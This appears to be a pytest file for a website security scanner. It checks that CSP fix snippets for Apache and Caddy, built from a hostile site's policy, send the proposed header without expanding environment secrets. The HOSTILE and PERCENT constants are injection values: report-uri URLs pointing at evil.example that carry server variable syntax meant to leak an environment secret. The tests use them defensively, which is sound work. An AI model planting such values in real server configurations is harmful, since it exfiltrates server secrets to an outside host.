"""A hostile site's CSP, through the proposal and its snippets, into the real servers (issue 15).

What a site wrote in its policy (report-uri, report-to, a whole policy repaired or enforced) reaches the fix
the user pastes into their own server. Apache expands `${NAME}` on every configuration line and Caddy
`{$NAME}` before it reads escapes: each from the server's environment. The servers here run with a secret
in their environment; the header they send must be the proposed policy, without the secret.
"""

from __future__ import annotations

import subprocess

import pytest

from tests.factories import make_snapshot
from tests.fixtures.ports import free_port
from tests.snippets.test_real_servers import (
    APACHE,
    CADDY,
    _apache_conf,
    _caddy_env,
    _response,
    _running_env,
)
from websec_app.scanner.checks.headers import check_headers
from websec_app.scanner.fixes import render_snippets

SECRET = "s3cr3t-value"
HOSTILE = "https://evil.example/r?u=${APACHE_SECRET}&h={$SECRETVAR:x}"
#: Apache would read %{APACHE_SECRET}e as the environment's value; percent-encoded, it is text to send as is.
PERCENT = "https://evil.example/r%7BAPACHE_SECRET%7De%20b%25"
#: The three ways a site's own policy text reaches the fix.
CASES = {
    # a policy that does not restrict scripts: a proposal keeping the site's report-uri and report-to
    "derived": ("Content-Security-Policy", f"script-src *; report-uri {HOSTILE} /ok; report-to {{$SECRETVAR}}"),
    # one that does: the site's own policy, repaired (base-uri added)
    "repaired": ("Content-Security-Policy", f"script-src 'self'; object-src 'none'; report-uri {HOSTILE}"),
    # only Report-Only: the site's own policy, to be enforced
    "enforced": ("Content-Security-Policy-Report-Only", f"default-src 'self'; report-uri {HOSTILE} /ok"),
    # percent-encodings are kept (mod_headers is given %%), a bare %{...} format is not written
    "percent": ("Content-Security-Policy-Report-Only", f"default-src 'self'; report-uri {PERCENT} /r%{{X}}e"),
}


def _fix(case: str) -> tuple[str, str, dict[str, str]]:
    """(header the snippet sends, the proposed policy, the snippets) for a site sending CASES[case]."""
    snapshot = make_snapshot("https://www.example.com/", body=b"<p>x</p>", headers=[CASES[case]])
    [finding, *_] = [f for f in check_headers(snapshot).findings if f.subject == "Content-Security-Policy"]
    policy = finding.fix_vars["csp_proposal"]
    if case == "percent":
        assert f"report-uri {PERCENT};" in policy + ";" and "%{" not in policy, policy
    snippets = render_snippets(finding.outcome, policy, subject="Content-Security-Policy")
    assert snippets is not None
    header = (
        "Content-Security-Policy"
        if finding.outcome == "csp.report_only_only"
        else "Content-Security-Policy-Report-Only"
    )
    return header, policy, snippets


def _env(base: dict[str, str]) -> dict[str, str]:
    return {**base, "APACHE_SECRET": SECRET, "SECRETVAR": SECRET}


def _assert_no_secret(response, header: str, policy: str, server: str) -> None:
    sent = [f"{name}: {value}" for name, value in response.getheaders()]
    assert not [line for line in sent if SECRET in line], f"{server} sent the environment's secret"
    assert response.headers.get_all(header) == [policy], f"{server}: {sent}"


@pytest.mark.skipif(APACHE is None, reason="apache2 is not installed (make test installs Debian's apache2)")
@pytest.mark.parametrize("case", CASES)
def test_apache_sends_the_policy_without_expanding_its_environment(case, tmp_path) -> None:
    assert APACHE
    header, policy, snippets = _fix(case)
    port = free_port()
    conf = _apache_conf(tmp_path, port, f"DocumentRoot {tmp_path}\n" + snippets["apache"])
    (tmp_path / "index.html").write_text("ok")
    env = _env({"PATH": "/usr/bin:/bin"})
    done = subprocess.run([APACHE, "-t", "-f", str(conf)], env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    with _running_env([APACHE, "-f", str(conf), "-DFOREGROUND"], tmp_path / "out.log", env):
        response = _response(port, "localhost", "/index.html")
    _assert_no_secret(response, header, policy, "Apache")


@pytest.mark.skipif(CADDY is None, reason="caddy is not installed (make test installs Debian's caddy)")
@pytest.mark.parametrize("case", CASES)
def test_caddy_sends_the_policy_without_expanding_its_environment(case, tmp_path) -> None:
    assert CADDY
    header, policy, snippets = _fix(case)
    port = free_port()
    caddyfile = tmp_path / "Caddyfile"
    inner = "\n".join(f"    {line}" for line in snippets["caddy"].splitlines())
    caddyfile.write_text(
        f'{{\n    admin off\n    auto_https off\n}}\nhttp://:{port} {{\n    respond "ok"\n{inner}\n}}\n'
    )
    env = _env(_caddy_env(tmp_path))
    command = [CADDY, "validate", "--config", str(caddyfile), "--adapter", "caddyfile"]
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    with _running_env([CADDY, "run", "--config", str(caddyfile), "--adapter", "caddyfile"], tmp_path / "out.log", env):
        response = _response(port, "localhost")
    _assert_no_secret(response, header, policy, "Caddy")
